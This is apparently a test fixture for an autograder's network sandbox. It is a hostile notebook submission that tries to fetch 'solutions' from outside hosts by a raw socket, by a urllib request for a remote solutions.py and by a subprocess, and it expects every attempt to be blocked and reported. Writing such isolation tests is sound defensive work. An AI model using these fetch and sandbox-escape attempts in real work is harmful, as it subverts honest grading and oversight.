# Hostile: a submission that reaches out to the network for its answers.
# base: reference
# expect:
#
# Everything is the reference solution, but the cell of the fit's plot (q1e, graded
# by hand) first tries to fetch "the solutions" from outside the machine: a TCP
# connection to 1.1.1.1:443 in the kernel, an HTTP request with urllib, and the same
# connection from a child Python started with subprocess. Had any of them worked,
# the submission would have replaced its ODE solver with the "downloaded" one (here
# a broken stand-in), and Problem 1 would lose its points. The kernel has no
# network (its own network namespace with loopback only, where Linux allows it;
# and the guard refuses connections to any address but loopback in every process
# of the submission), so every attempt fails: the score is the reference's, the
# report names each attempt ("tried to connect to 1.1.1.1:443 ... blocked"), and
# Problem 2's MPI ping-pong, which talks over loopback, still runs and scores.

# %% q1e-answer
# MANUAL q1e 3pt
import socket as _socket
import subprocess as _subprocess
import sys as _sys
import urllib.request as _request

_got = []
for _attempt in (lambda: _socket.create_connection(("1.1.1.1", 443), timeout=5),
                 lambda: _request.urlopen("http://93.184.215.14/solutions.py", timeout=5),
                 lambda: _subprocess.run([_sys.executable, "-c", "import socket; "
                                          "socket.create_connection(('1.1.1.1', 443), timeout=5)"],
                                         check=True, capture_output=True, timeout=60)):
    try:
        _got.append(_attempt())
    except Exception:  # noqa: BLE001
        pass
if _got:
    def dp5_solve(f, u0, p, dt, nsteps):  # the "downloaded" solver
        return np.zeros((nsteps + 1, len(u0)))

fig, (ax1, ax2) = splt.subplots(1, 2, width=10, height=3.5)
U_fit = dp5_solve(lotka_volterra, u0, p_fit, 0.05, 200)
ax1.plot(t_grid, data, "o", ms=3)
ax1.plot(0.05 * np.arange(201), U_fit, "-")
ax2.semilogy(losses)
